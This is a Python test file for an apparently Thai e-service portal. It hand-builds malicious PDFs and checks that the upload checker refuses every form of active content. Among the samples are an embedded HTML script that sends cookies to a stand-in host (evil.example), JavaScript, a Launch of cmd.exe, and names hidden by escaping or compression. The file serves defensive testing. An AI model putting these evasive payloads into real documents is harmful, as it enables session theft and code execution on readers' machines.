"""Issue 13, point 8: an uploaded PDF cannot carry active content in any form.

The attack: a file-attachment annotation carrying an HTML file, and a 3D annotation carrying
JavaScript, both passed the check, which looked at the catalog's names only. Each shape below
is built by hand (raw PDF bytes) and must be refused with the Thai 4xx: whatever can run, act
by itself, send or fetch, play media or carry a file, wherever it sits (a page's annotations,
an object nobody references, an object stream, an object missing from the cross-reference
table) and however its names are spelled (``#xx`` escapes). Plain documents, web links and
owner-password PDFs still pass. Files are served as downloads unless they are photos.
"""

from __future__ import annotations

import io
import zlib
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import TestClient
from pypdf import PdfWriter
from pypdf.annotations import Link

from portal.attachments.processing import UploadRejected, process_upload
from tests.attachments.helpers import jpeg_with_gps, open_form, pending_ids, upload
from tests.conftest import html

LIMIT = 10 * 1024 * 1024
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>"


def build_pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    objects: tuple[bytes, ...] = (),
    unlisted: tuple[bytes, ...] = (),
) -> bytes:
    """A one-page PDF with a correct cross-reference table. Objects 1-3 are the catalog (with
    ``catalog`` inside), the page tree and the page (with ``page`` inside); ``objects`` are
    numbered from 4 on and listed in the table; ``unlisted`` follow them in the file but the
    table does not name them (a reader that repairs the file finds them)."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE % page,
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    for number, body in enumerate(unlisted, start=len(bodies) + 1):
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return bytes(out)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< %s/Length %d >>\nstream\n" % (entries, len(content)) + content + b"\nendstream"


def object_stream(number: int, body: bytes) -> bytes:
    """An object stream holding object ``number`` (compressed: ``body`` is not in the bytes)."""
    data = zlib.compress(b"%d 0 " % number + body)
    prefix = b"%d 0 " % number
    return stream(data, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode " % len(prefix))


ANNOT = b"/Annots [4 0 R] "
HTML = b"<html><script>fetch('https://evil.example/?c='+document.cookie)</script></html>"

ACTIVE = {
    # The two shapes that passed before.
    "file attachment with html": build_pdf(
        page=ANNOT,
        objects=(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
            b"<< /Type /Filespec /F (note.html) /EF << /F 6 0 R >> >>",
            stream(HTML),
        ),
    ),
    "3d annotation with javascript": build_pdf(
        page=ANNOT,
        objects=(
            b"<< /Type /Annot /Subtype /3D /Rect [0 0 20 20] /3DD 5 0 R >>",
            stream(b"U3D....", b"/Type /3D /Subtype /U3D /OnInstantiate 6 0 R "),
            stream(b"host.getURL('https://evil.example/')"),
        ),
    ),
    # The same, spelled with #xx escapes.
    "escaped file attachment": build_pdf(
        page=ANNOT,
        objects=(
            b"<< /Type /Annot /Subtype /F#69leAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
            b"<< /F (note.html) /E#46 << /F 6 0 R >> >>",
            stream(HTML),
        ),
    ),
    "escaped 3d": build_pdf(
        page=ANNOT,
        objects=(b"<< /Type /Annot /Subtype /#33D /Rect [0 0 20 20] /#33DD 5 0 R >>", stream(b"x")),
    ),
    # Actions and media, where each may sit.
    "link running javascript": build_pdf(
        page=ANNOT,
        objects=(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] /A 5 0 R >>",
            b"<< /S /JavaScript /JS 6 0 R >>",
            stream(b"app.alert(1)"),
        ),
    ),
    "javascript: link": build_pdf(
        page=ANNOT,
        objects=(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] "
            b"/A << /S /URI /URI ( JavaScript:alert\\(1\\)) >> >>",
        ),
    ),
    "file: link": build_pdf(
        page=ANNOT,
        objects=(
            b"<< /Subtype /Link /Rect [0 0 20 20] /A << /S /URI /URI (file:///C:/x.exe) >> >>",
        ),
    ),
    "hex-encoded data: link": build_pdf(
        page=ANNOT,
        objects=(
            b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI "
            b"/URI <646174613a746578742f68746d6c2c3c7363726970743e> >> >>",
        ),
    ),
    "page additional action": build_pdf(page=b"/AA << /O << /S /Named /N /Print >> >> "),
    "field keystroke script": build_pdf(
        catalog=b"/AcroForm << /Fields [4 0 R] >> ",
        page=ANNOT,
        objects=(
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] "
            b"/A#41 << /K << /S /J#61vaScript /JS (1) >> >> >>",
        ),
    ),
    "xfa form": build_pdf(
        catalog=b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >> ", objects=(stream(b"<xdp/>"),)
    ),
    "launch": build_pdf(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> "),
    "goto embedded": build_pdf(catalog=b"/OpenAction << /S /GoToE /T << /R /C /N (x) >> >> "),
    "import data": build_pdf(
        page=ANNOT,
        objects=(b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /ImportData /F (x.fdf) >> >>",),
    ),
    "submit form": build_pdf(
        page=ANNOT,
        objects=(
            b"<< /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://x.example/) >> >> >>",
        ),
    ),
    "rich media": build_pdf(
        page=ANNOT,
        objects=(b"<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>",),
    ),
    "screen rendition": build_pdf(
        page=ANNOT,
        objects=(b"<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>",),
    ),
    "movie": build_pdf(
        page=ANNOT, objects=(b"<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.mov) >> >>",)
    ),
    "sound": build_pdf(
        page=ANNOT,
        objects=(
            b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Sound /Sound 5 0 R >> >>",
            stream(b"x"),
        ),
    ),
    "associated file": build_pdf(
        catalog=b"/AF [4 0 R] ", objects=(b"<< /F (a.exe) /EF << /F 5 0 R >> >>", stream(b"MZ"))
    ),
    # Where a check that starts from the catalog does not look.
    "object nobody references": build_pdf(
        objects=(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",),
    ),
    "object missing from the table": build_pdf(
        unlisted=(b"<< /Type /Annot /Subtype /FileAttachment /FS << /EF << >> >> >>",),
    ),
    "compressed object nobody lists": build_pdf(
        unlisted=(object_stream(9, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),),
    ),
}


def _refused(data: bytes) -> str:
    with pytest.raises(UploadRejected) as caught:
        process_upload(data, max_bytes=LIMIT)
    return caught.value.code


@pytest.mark.parametrize("name", list(ACTIVE))
def test_every_shape_of_active_content_is_refused(name: str) -> None:
    data = ACTIVE[name]
    for word in (b"JavaScript", b"EmbeddedFile"):
        if name.startswith(("escaped", "compressed")):
            assert word not in data  # a byte search would miss these
    assert _refused(data) == "pdf_active"


def test_a_pdf_encrypted_for_reading_is_refused() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="secret", owner_password="owner")
    out = io.BytesIO()
    writer.write(out)
    assert _refused(out.getvalue()) == "corrupt"


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_plain_documents_with_web_links_still_pass() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://www.example.go.th/"))
    writer.add_annotation(0, Link(rect=(50, 90, 200, 120), url="http://example.org/form"))
    restricted = PdfWriter()
    restricted.add_blank_page(595, 842)
    restricted.encrypt(user_password="", owner_password="owner")  # print/copy limits only
    blend = build_pdf(
        page=b"/Resources << /ExtGState << /G0 << /BM /Screen >> >> >> ",
    )
    for data in (_written(writer), _written(restricted), blend):
        processed = process_upload(data, max_bytes=LIMIT)
        assert processed.content_type == "application/pdf"
        assert processed.data == data  # kept as sent


Browser = TestClient[Litestar]


def test_the_portal_answers_the_attack_with_a_thai_4xx(client: Browser, run_db: Any) -> None:
    key = open_form(client, run_db, 900)
    for name in ("file attachment with html", "3d annotation with javascript"):
        refused = upload(client, key, ACTIVE[name], name="letter.pdf", mime="application/pdf")
        assert refused.status_code == 422
        assert "ไฟล์ PDF นี้มีสคริปต์หรือไฟล์แฝง" in refused.text
    assert pending_ids(upload(client, key, build_pdf(), "ok.pdf", "application/pdf"))


def test_files_are_downloads_unless_they_are_photos(client: Browser, run_db: Any) -> None:
    key = open_form(client, run_db, 901)
    pdf_id = pending_ids(upload(client, key, build_pdf(), "letter.pdf", "application/pdf"))[-1]
    photo_id = pending_ids(upload(client, key, jpeg_with_gps()))[-1]
    document = client.get(f"/e-service/uploads/{pdf_id}/full", params={"key": key})
    assert document.status_code == 200
    assert document.headers["content-type"] == "application/pdf"
    assert document.headers["content-disposition"].startswith("attachment;")
    assert document.headers["x-content-type-options"] == "nosniff"
    for variant in ("full", "preview"):
        photo = client.get(f"/e-service/uploads/{photo_id}/{variant}", params={"key": key})
        assert photo.status_code == 200
        assert photo.headers["content-type"] == "image/jpeg"
        assert photo.headers["content-disposition"].startswith("inline;")
        assert photo.headers["x-content-type-options"] == "nosniff"
    assert (
        client.get(f"/e-service/uploads/{pdf_id}/preview", params={"key": key}).status_code == 404
    )
    assert html(client.get("/e-service/complaint/form")).select_one("form") is not None
